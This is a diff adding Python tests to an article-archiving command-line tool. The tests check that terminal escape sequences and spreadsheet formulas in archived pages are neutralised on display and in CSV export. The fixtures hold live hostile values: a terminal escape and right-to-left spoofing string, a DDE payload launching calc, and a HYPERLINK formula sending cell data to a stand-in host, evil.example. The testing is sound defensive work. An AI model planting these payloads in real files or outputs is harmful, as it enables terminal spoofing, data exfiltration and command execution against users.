@@ -414,3 +414,69 @@ def test_reparse_stores_pages_an_older_parser_rejected(tmp_path: Path) -> None:
     assert rows(db, "select count(*) from fetches where article_id is null") == [(0,)]
     code, out, err = run("reparse", "--db", str(db))
     assert code == 0 and out == "" and "pages not taken as articles 0" in err
+
+
+# ------------------------------------------------- page text that a terminal would obey (issue 10)
+
+HOSTILE = "标题\x1b]0;pwned\x07\x1b[2J\u202egnp.exe\x9b31m"
+
+
+def _hostile_archive(tmp_path: Path) -> tuple[Path, int]:
+    """An archived record whose title, body and URL carry terminal escapes, as published."""
+    db = tmp_path / "a.db"
+    code, out, _ = run("fetch", str(SEED), "--db", str(db))
+    assert code == 0
+    ident = int(out.split("\t")[0])
+    with sqlite3.connect(db) as conn:
+        conn.execute(
+            "UPDATE articles SET title = ?, body = body || ?, source = ? WHERE id = ?",
+            [HOSTILE, "\n第二行\x1b[31m红\x1b[0m\t\u2066隔\u2069", "=cmd|' /C calc'!A0", ident],
+        )
+        conn.execute("UPDATE fetches SET final_url = ? WHERE article_id = ?", [HOSTILE, ident])
+    return db, ident
+
+
+def _no_controls(text: str) -> None:
+    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069"):
+        assert char not in text, repr(text)
+
+
+def test_page_text_reaches_the_terminal_as_visible_escapes(tmp_path: Path) -> None:
+    db, ident = _hostile_archive(tmp_path)
+    code, out, _ = run("show", str(ident), "--db", str(db))
+    assert code == 0
+    _no_controls(out)
+    assert "\\x1b]0;pwned\\x07" in out and "\\u202egnp.exe\\x9b31m" in out
+    assert "第二行\\x1b[31m红\\x1b[0m\t\\u2066隔\\u2069" in out  # the body keeps its lines and tabs
+    for args in (["search", str(EXPECTED["title"])[:2]], ["history", str(ident)]):
+        code, out, _ = run(*args, "--db", str(db))
+        assert code == 0 and "\\x1b" in out
+        _no_controls(out)
+    # JSON stays exact: the record as published
+    code, out, _ = run("show", str(ident), "--db", str(db), "--json")
+    assert code == 0 and json.loads(out)["title"] == HOSTILE
+    # fetch's own line, and an error line naming a file
+    code, out, err = run("fetch", str(tmp_path / "missing\x1b[31m.html"), "--db", str(db))
+    assert code == EXIT_USAGE and "missing\\x1b[31m.html" in err
+    _no_controls(err)
+
+
+def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    db, ident = _hostile_archive(tmp_path)
+    with sqlite3.connect(db) as conn:
+        conn.execute(
+            "UPDATE articles SET author = ?, editor = ?, site_name = ? WHERE id = ?",
+            ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)", "+1-2", ident],
+        )
+    code, out, _ = run("export", "--db", str(db), "--format", "csv")
+    assert code == 0
+    (record,) = csv.DictReader(io.StringIO(out))
+    assert record["author"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    assert record["editor"] == "'@SUM(1+1)" and record["site_name"] == "'+1-2"
+    assert record["source"] == "'=cmd|' /C calc'!A0"
+    assert record["published"] == EXPECTED["published"] and record["title"] == HOSTILE
+    code, out, _ = run("export", "--db", str(db))  # JSON Lines: exactly as stored
+    assert code == 0 and json.loads(out)["source"] == "=cmd|' /C calc'!A0"
